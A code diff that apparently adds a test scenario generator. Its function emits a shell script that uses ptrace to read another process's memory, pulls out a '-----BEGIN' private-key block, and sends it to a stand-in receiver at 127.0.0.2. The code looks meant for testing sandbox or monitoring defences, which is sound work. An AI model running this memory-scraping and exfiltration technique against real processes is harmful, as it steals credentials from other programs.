@@ -96,6 +96,39 @@ s.close()
  * or with process_vm_readv) and sends it to 127.0.0.2:PORT. Prints the
  * number of bytes found and sent.
  */
+/**
+ * A process that never opens FILE finds it in the memory of one that read
+ * it with ptrace peeks (attach, PTRACE_PEEKDATA a word at a time, detach),
+ * and sends what it found to 127.0.0.2:PORT. The holder says where its copy
+ * will lie (a buffer's address, written before it reads the secret, so
+ * that note carries nothing).
+ */
+export function ptraceScenario(file: string, port: number): string {
+  return `at=$(mktemp)
+python3 -c 'import ctypes, time; b = ctypes.create_string_buffer(4096); print(ctypes.addressof(b), flush=True); open("${file}", "rb").readinto(b); time.sleep(5)' > $at &
+v=$!
+while [ ! -s $at ]; do sleep 0.05; done
+python3 -c '
+import ctypes, os, socket, sys
+libc = ctypes.CDLL(None, use_errno=True)
+libc.ptrace.restype = ctypes.c_long
+libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
+pid, addr = int(sys.argv[1]), int(open(sys.argv[2]).read())
+if libc.ptrace(16, pid, None, None) != 0:  # PTRACE_ATTACH
+    raise OSError(ctypes.get_errno(), "PTRACE_ATTACH")
+os.waitpid(pid, 0)
+words = [libc.ptrace(2, pid, addr + 8 * i, None) & 0xFFFFFFFFFFFFFFFF for i in range(16)]  # PTRACE_PEEKDATA
+libc.ptrace(17, pid, None, None)  # PTRACE_DETACH
+mem = b"".join(w.to_bytes(8, "little") for w in words)
+found = mem[mem.find(b"-----BEGIN"):][:64]
+s = socket.create_connection(("127.0.0.2", ${port}))
+s.sendall(found)
+s.close()
+print(len(found))
+' $v $at
+kill $v; rm -f $at`;
+}
+
 export function procMemScenario(file: string, port: number, via: 'proc-mem' | 'process_vm_readv' = 'proc-mem'): string {
   const peek =
     via === 'proc-mem'
